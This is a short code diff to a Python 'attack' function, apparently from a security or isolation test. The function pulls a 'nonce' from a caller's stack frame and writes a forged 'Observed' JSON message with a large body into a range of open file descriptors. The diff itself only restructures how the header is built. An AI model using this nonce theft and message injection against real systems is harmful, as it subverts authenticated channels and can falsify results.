@@ -13,8 +13,8 @@ def attack(A):
     while frame is not None and "nonce" not in frame.f_locals:
         frame = frame.f_back
     nonce = frame.f_locals["nonce"] if frame else 0
-    header = b'{"kind": "Observed", "nonce": %d, "values": [{"name": "Z", "type": "", "dtype": "u1",'
-    header = (header + b'"shape": [4194304], "sent": true}]}') % nonce
+    value = b'{"name": "Z", "type": "", "dtype": "u1", "shape": [4194304], "sent": true}'
+    header = b'{"kind": "Observed", "nonce": %d, "values": [%s]}' % (nonce, value)
     body = bytes(1 << 22)
     for descriptor in range(3, 64):
         with contextlib.suppress(OSError):
